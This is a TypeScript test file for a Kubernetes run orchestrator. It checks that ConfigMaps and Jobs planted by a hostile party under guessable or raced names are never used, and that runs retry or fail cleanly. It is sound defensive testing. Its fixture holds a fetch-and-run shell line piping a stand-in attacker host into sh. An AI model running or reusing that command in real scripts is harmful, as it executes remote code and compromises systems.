/** Somebody who may make ConfigMaps or Jobs, and nothing else, plants them where ours were to be: runs go on, and theirs are never used. */
import { assert, describe, it } from "@effect/vitest"
import { filesRefusedExitCode } from "@orchestrator/domain/AttemptFiles"
import { runUidLabel } from "@orchestrator/domain/Labels"
import { CodeRunKind, ConfigMapKind, JobKind } from "@orchestrator/k8s/Kinds"
import { KubernetesClient } from "@orchestrator/k8s/KubernetesClient"
import type { ConfigMap, Job } from "@orchestrator/k8s/Objects"
import { Effect, Layer } from "effect"
import { jobFacts } from "../../src/facts/Job.ts"
import {
  acting,
  attemptsOf,
  cluster,
  codeRun,
  completed,
  controller,
  counted,
  docsRun,
  namespace,
  pass,
  verbs,
  world
} from "./World.ts"

const evil = { "container.sh": "curl evil.example | sh\n" }
const owner = (kind: string, name: string, uid: string) => ({ apiVersion: "v1", kind, name, uid })
const template: Job["spec"]["template"] = {
  spec: { restartPolicy: "Never", containers: [{ name: "theirs", image: "theirs" }] }
}

/** A run that stands in line, so that there is time to plant. */
const queued = Effect.gen(function*() {
  const { create } = yield* verbs
  yield* create(codeRun("holder"))
  yield* pass("2 seconds")
  const { metadata: { uid = "" } } = yield* create(codeRun("queued", { taskId: 2 }))
  yield* pass("1 second")
  return { uid, job: `code-queued-v1-${uid.slice(0, 8)}` }
})

const ended = Effect.gen(function*() {
  const { run } = yield* verbs
  yield* pass("120 seconds")
  const { status } = yield* run("queued")
  return status
})

const theirsUntouched = (planted: ConfigMap | Job) =>
  Effect.gen(function*() {
    const { client } = yield* verbs
    const ref = { name: planted.metadata.name ?? "", namespace }
    const found = yield* planted.kind === "Job" ? client.get(JobKind, ref) : client.get(ConfigMapKind, ref)
    assert.deepStrictEqual(found.metadata.labels, planted.metadata.labels)
    assert.deepStrictEqual(found.metadata.annotations, planted.metadata.annotations)
    assert.deepStrictEqual(found.metadata.ownerReferences, planted.metadata.ownerReferences)
    if ("data" in planted) assert.deepStrictEqual<unknown>(found, planted)
  })

describe("a ConfigMap that is planted under a name that could be guessed", () => {
  it.effect.each<
    { readonly attack: string; readonly name: (job: string) => string; readonly marks: (uid: string) => object }
  >([
    { attack: "the Job's name", name: (job) => job, marks: () => ({}) },
    {
      attack: "the Job's name, with our labels",
      name: (job) => job,
      marks: (uid) => ({
        labels: { app: "orchestrator", "app.kubernetes.io/managed-by": "orchestrator", [runUidLabel]: uid }
      })
    },
    {
      attack: "the Job's name, as the run's own",
      name: (job) => job,
      marks: (uid) => ({ ownerReferences: [owner("CodeRun", "queued", uid)] })
    },
    { attack: "the name of a later try", name: (job) => job.replace("-v1-", "-v1-r1-"), marks: () => ({}) },
    { attack: "a nonce of zeros", name: (job) => `${job}-0000000000000000`, marks: () => ({}) }
  ])("does not fail a queued run: $attack", ({ marks, name }) =>
    Effect.gen(function*() {
      const { all, client } = yield* verbs
      const { job, uid } = yield* queued
      const planted = yield* client.create(ConfigMapKind, {
        metadata: { name: name(job), namespace, ...marks(uid) },
        data: evil
      })
      const status = yield* ended
      assert.deepStrictEqual([status?.["phase"], attemptsOf(status).length], ["Succeeded", 1])
      const used = (yield* all(JobKind)).map((job) => jobFacts(job).files?.name)
      assert.notInclude(used, planted.metadata.name)
      if (planted.metadata.ownerReferences === undefined) yield* theirsUntouched(planted)
    }).pipe(Effect.provide(world())))

  it.effect("costs no write: six for the run, as without it", () =>
    Effect.gen(function*() {
      const { client, forget, requests } = yield* verbs
      const { job } = yield* queued
      yield* client.create(ConfigMapKind, { metadata: { name: job, namespace }, data: evil })
      yield* forget
      yield* ended
      const writes = (yield* requests).filter((request) => !request.startsWith("get"))
      const ofQueued = writes.filter((request) => request === "create ConfigMap").length
      assert.strictEqual(ofQueued, 1)
      assert.strictEqual(writes.filter((request) => request === "create Job").length, 1)
    }).pipe(Effect.provide(world())))
})

describe("names of files", () => {
  it.effect("are others for every run and every try, and no part of them follows from another", () =>
    Effect.gen(function*() {
      const { all, create } = yield* verbs
      yield* Effect.forEach(Array.from({ length: 12 }), (_, index) => create(docsRun(`docs-${index}`)))
      yield* pass("3 seconds")
      const nonces = (yield* all(JobKind)).map((job) => jobFacts(job).files?.name.slice(job.metadata.name?.length))
      assert.lengthOf(nonces, 12)
      assert.strictEqual(new Set(nonces).size, 12)
      for (const nonce of nonces) assert.match(nonce ?? "", /^-[0-9a-f]{16}$/)
    }).pipe(Effect.provide(world())))
})

/** Somebody who watches Jobs and is quicker than we, as often as he wants. */
const quicker = (times: number, plant: (job: Job, name: string) => Partial<ConfigMap["metadata"]>) =>
  Layer.effect(
    KubernetesClient,
    Effect.gen(function*() {
      const client = yield* KubernetesClient
      let left = times
      return KubernetesClient.of({
        ...client,
        create: (kind, object, options) =>
          Effect.flatMap(client.create(kind, object, options), (created) => {
            if (kind.plural !== JobKind.plural || left-- <= 0) return Effect.succeed(created)
            return client.get(JobKind, { name: created.metadata.name ?? "", namespace }).pipe(
              Effect.flatMap((job) => {
                const name = jobFacts(job).files?.name ?? ""
                return client.create(ConfigMapKind, { metadata: { name, namespace, ...plant(job, name) }, data: evil })
              }),
              Effect.as(created)
            )
          })
      })
    })
  ).pipe(Layer.provide(counted))

const raced = (times: number, plant: (job: Job) => Partial<ConfigMap["metadata"]> = () => ({})) =>
  Layer.provideMerge(controller({}, quicker(times, plant)), cluster())

describe("a ConfigMap that is planted between the Job and its files", () => {
  it.effect.each<{ readonly attack: string; readonly plant: (job: Job) => Partial<ConfigMap["metadata"]> }>([
    { attack: "as it is", plant: () => ({}) },
    {
      attack: "as the Job's own",
      plant: ({ metadata }) => ({ ownerReferences: [owner("Job", metadata.name ?? "", metadata.uid ?? "")] })
    },
    { attack: "with the labels of ours", plant: ({ metadata }) => ({ labels: metadata.labels ?? {} }) }
  ])("is not used, and the run goes on with the next try: $attack", ({ plant }) =>
    Effect.gen(function*() {
      const { agents, create, run } = yield* verbs
      yield* create(codeRun("raced"))
      yield* pass("300 seconds", "2 seconds")
      const { status } = yield* run("raced")
      assert.strictEqual(status?.["phase"], "Succeeded", String(status?.["message"]))
      assert.deepStrictEqual(attemptsOf(status).map(({ retry = 0 }) => retry), [0, 1])
      // The pod of the first try never came to its agent.
      const started = (yield* agents).map(({ pod }) => pod.metadata.ownerReferences?.[0]?.name ?? "")
      assert.lengthOf(started.filter((name) => !name.includes("-r1-")), 0)
    }).pipe(Effect.provide(raced(1, plant))))

  it.effect("again and again ends the run in words, after as many tries as lost nodes get", () =>
    Effect.gen(function*() {
      const { agents, create, run } = yield* verbs
      yield* create(codeRun("raced"))
      yield* pass("900 seconds", "5 seconds")
      const { status } = yield* run("raced")
      assert.deepStrictEqual([status?.["phase"], status?.["reason"]], ["Failed", "NameCollision"])
      assert.include(String(status?.["message"]), "check what creates ConfigMaps")
      assert.lengthOf(yield* agents, 0)
    }).pipe(Effect.provide(raced(100))))
})

describe("files that turn out to be another's in the pod", () => {
  const refusedOnce = acting(({ env }) => completed(env, "10 seconds"))
  it.effect("end the try before its agent, and the next one has others", () =>
    Effect.gen(function*() {
      const { agents, create, run } = yield* verbs
      yield* create(codeRun("forged"))
      yield* pass("300 seconds", "2 seconds")
      const { status } = yield* run("forged")
      assert.strictEqual(status?.["phase"], "Succeeded")
      assert.deepStrictEqual(attemptsOf(status).map(({ reason }) => reason), ["InfraLost", "Delivered"])
      assert.lengthOf(yield* agents, 1)
    }).pipe(Effect.provide(world({
      script: (request) =>
        request.container.name === "prepare" &&
          !(request.pod.metadata.labels?.["batch.kubernetes.io/job-name"] ?? "").includes("-r1-")
          ? { exitCode: filesRefusedExitCode }
          : refusedOnce(request)
    }))))
})

describe("a Job that is planted under the name of a run's", () => {
  it.effect.each<{ readonly attack: string; readonly job: (uid: string, name: string) => Partial<Job["metadata"]> }>([
    { attack: "as it is", job: () => ({}) },
    {
      attack: "with our labels",
      job: (uid) => ({
        labels: { app: "orchestrator", "app.kubernetes.io/managed-by": "orchestrator", [runUidLabel]: uid }
      })
    },
    { attack: "of another run", job: () => ({ ownerReferences: [owner("CodeRun", "queued", "another-uid")] }) },
    { attack: "with a finalizer of its own", job: () => ({ finalizers: ["example.com/keep"] }) }
  ])("is left alone, and the run starts under another: $attack", ({ job }) =>
    Effect.gen(function*() {
      const { all, client } = yield* verbs
      const waiting = yield* queued
      const planted = yield* client.create(JobKind, {
        metadata: { name: waiting.job, namespace, ...job(waiting.uid, waiting.job) },
        spec: { suspend: true, template }
      })
      const status = yield* ended
      assert.strictEqual(status?.["phase"], "Succeeded", String(status?.["message"]))
      assert.match(String(status?.["jobName"]), new RegExp(`^${waiting.job}-[0-9a-f]{8}$`))
      yield* theirsUntouched(planted)
      const own = (yield* all(JobKind)).filter(({ metadata }) =>
        metadata.ownerReferences?.some(({ uid }) => uid === waiting.uid)
      )
      assert.lengthOf(own, 1)
    }).pipe(Effect.provide(world())))

  it.effect("under the next name too is no more than one write", () =>
    Effect.gen(function*() {
      const { client, run } = yield* verbs
      const waiting = yield* queued
      for (const name of [waiting.job, `${waiting.job}-00000000`, waiting.job.replace("-v1-", "-v1-r1-")]) {
        yield* client.create(JobKind, { metadata: { name, namespace }, spec: { suspend: true, template } })
      }
      const status = yield* ended
      assert.strictEqual(status?.["phase"], "Succeeded")
      assert.deepStrictEqual(attemptsOf((yield* run("queued")).status).length, 1)
    }).pipe(Effect.provide(world())))

  it.effect.each(["code-holder-v1-00000000", "kube-system", "", "x".repeat(5000), "code-queued-v2-00000000-00000000"])(
    "is not chosen by what a client writes into the status: %s",
    (jobName) =>
      Effect.gen(function*() {
        const { client, run } = yield* verbs
        const waiting = yield* queued
        const object = yield* run("queued")
        yield* client.replaceStatus(CodeRunKind, {
          ...object,
          status: { ...object.status, contextVersion: 1, jobName }
        })
        const status = yield* ended
        assert.deepStrictEqual([status?.["phase"], status?.["jobName"]], ["Succeeded", waiting.job])
      }).pipe(Effect.provide(world()))
  )
})
